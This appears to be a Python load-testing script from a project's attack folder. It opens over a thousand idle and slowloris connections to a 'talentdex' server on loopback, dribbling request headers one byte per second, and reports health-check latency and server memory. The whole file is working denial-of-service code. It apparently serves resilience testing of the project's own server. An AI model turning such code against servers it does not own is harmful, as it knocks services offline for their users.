#!/usr/bin/env python3
"""Idle and slowloris connections against a talentdex on loopback.

Opens --idle connections that send nothing and --slow connections that send a request head one
byte per second and never finish it; reports how many the server accepted, how long until it
closed each, /healthz while they are held, and the server's RSS before, at the peak and after.
Bounded: gives up after --max-seconds.

    python3 scripts/attack/slowloris.py --port 8080 --pid $(pgrep -n talentdex) --idle 1100 --slow 1000
"""
import argparse
import selectors
import socket
import statistics
import time

from common import get, loopback, rss_kib

HEAD = b"GET /api/posts HTTP/1.1\r\nHost: x\r\nX-Slow: " + b"a" * 4000


def main():
    p = argparse.ArgumentParser()
    p.add_argument("--host", default="127.0.0.1")
    p.add_argument("--port", type=int, default=8080)
    p.add_argument("--pid", type=int, required=True, help="the server's pid, for its RSS")
    p.add_argument("--idle", type=int, default=1100)
    p.add_argument("--slow", type=int, default=1000)
    p.add_argument("--max-seconds", type=float, default=60)
    a = p.parse_args()
    host = loopback(a.host)
    rss_before = rss_kib(a.pid)
    sel = selectors.DefaultSelector()
    opened = {}
    refused = 0
    started = time.monotonic()
    for i in range(a.idle + a.slow):
        try:
            s = socket.create_connection((host, a.port), timeout=2)
        except OSError:
            refused += 1
            continue
        s.setblocking(False)
        kind = "idle" if i < a.idle else "slow"
        opened[s] = (kind, time.monotonic(), 0)
        sel.register(s, selectors.EVENT_READ)
    print(f"opened {len(opened)} connections ({refused} refused) in {time.monotonic() - started:.1f} s")
    status, took = get(host, a.port, "/healthz")
    print(f"/healthz while they are held: {status} in {took * 1000:.0f} ms")
    closed = {"idle": [], "slow": []}
    peak = rss_kib(a.pid) or 0
    next_byte = time.monotonic()
    while opened and time.monotonic() - started < a.max_seconds:
        for key, _ in sel.select(timeout=0.2):
            s = key.fileobj
            try:
                data = s.recv(4096)
            except OSError:
                data = b""
            if not data:
                kind, t0, _ = opened.pop(s)
                closed[kind].append(time.monotonic() - t0)
                sel.unregister(s)
                s.close()
        if time.monotonic() >= next_byte:
            next_byte += 1.0
            for s, (kind, t0, sent) in list(opened.items()):
                if kind == "slow" and sent < len(HEAD):
                    try:
                        s.send(HEAD[sent:sent + 1])
                        opened[s] = (kind, t0, sent + 1)
                    except OSError:
                        pass
            peak = max(peak, rss_kib(a.pid) or 0)
    for kind, times in closed.items():
        if times:
            print(f"{kind}: {len(times)} closed by the server, after median {statistics.median(times):.1f} s, max {max(times):.1f} s")
    print(f"still open after {a.max_seconds:.0f} s: {len(opened)}")
    for s in opened:
        s.close()
    time.sleep(1)
    status, took = get(host, a.port, "/healthz")
    print(f"/healthz afterwards: {status} in {took * 1000:.0f} ms")
    print(f"server RSS: before {rss_before} KiB, peak {peak} KiB, after {rss_kib(a.pid)} KiB")


if __name__ == "__main__":
    main()
